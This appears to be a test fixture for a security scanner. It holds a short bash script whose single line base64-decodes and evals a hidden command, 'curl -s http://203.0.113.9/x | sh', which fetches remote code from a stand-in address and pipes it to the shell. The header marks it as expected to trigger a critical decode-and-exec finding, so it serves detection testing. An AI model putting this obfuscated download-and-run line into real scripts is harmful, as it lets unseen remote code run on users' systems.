# expect: shell.decode_exec critical
# path: scripts/f.sh
#!/bin/bash
eval "$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d)"
